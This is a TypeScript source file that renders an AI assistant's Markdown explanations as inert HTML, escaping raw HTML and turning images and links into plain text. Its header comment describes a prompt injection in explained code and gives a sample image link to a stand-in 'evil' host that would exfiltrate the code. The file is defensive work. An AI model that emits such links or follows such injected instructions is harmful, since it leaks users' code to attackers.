import MarkdownIt from 'markdown-it';
import type { Token } from 'markdown-it';

/**
 * The model's Markdown as HTML that can make no request and run nothing. An answer can carry a prompt
 * injection from the code it explains: `![](https://evil/?q=<the code>)` would send the code away the moment
 * an image loaded, and a link can dress such a URL up as documentation. So:
 * - raw HTML is escaped, never interpreted (`html: false`);
 * - an image is a text placeholder with its alt text and where it would have come from: never loaded;
 * - a link is its text followed by its URL, as text: nothing to click, the user sees where it points
 *   and can copy it;
 * - bare URLs stay plain text (`linkify: false`).
 * The output carries no `src` or `href` at all; the page's CSP (no img-src, no connect-src) is the second
 * line, should anything get past this one.
 */
const markdown = new MarkdownIt('default', { html: false, linkify: false, typographer: false });
const { escapeHtml } = markdown.utils;

markdown.renderer.rules.image = (tokens, idx, options, env, self) => {
  const token = tokens[idx];
  const alt = self.renderInlineAsText(token.children ?? [], options, env).trim();
  const label = `image${alt ? ` “${alt}”` : ''} ${imageOrigin(token.attrGet('src') ?? '')}, not loaded`;
  return `<span class="image-placeholder">[${escapeHtml(label)}]</span>`;
};

markdown.renderer.rules.link_open = (tokens, idx) => (tokens[idx].markup === 'autolink' ? '<span class="link-url">' : '<span class="link-text">');

markdown.renderer.rules.link_close = (tokens, idx) => {
  const open = linkOpening(tokens, idx);
  // An autolink's text is its URL: shown once.
  if (!open || open.markup === 'autolink') return '</span>';
  const url = markdown.normalizeLinkText(open.attrGet('href') ?? '');
  return `</span> <span class="link-url">(${escapeHtml(url)})</span>`;
};

/** The link_open a link_close ends: the nearest one before it (a link never holds another). */
function linkOpening(tokens: readonly Token[], closeIndex: number): Token | undefined {
  for (let i = closeIndex - 1; i >= 0; i--) if (tokens[i].type === 'link_open') return tokens[i];
  return undefined;
}

/** Where an image would have come from, for its placeholder: the host of a URL, else what the source is. */
function imageOrigin(src: string): string {
  let url: URL;
  try {
    url = new URL(src);
  } catch {
    return `at ${src}`; // a relative path
  }
  return url.host ? `from ${url.host}` : `in a ${url.protocol} URL`;
}

/** The explanation's Markdown as safe HTML (see above). */
export function explanationHtml(text: string): string {
  return markdown.render(text);
}
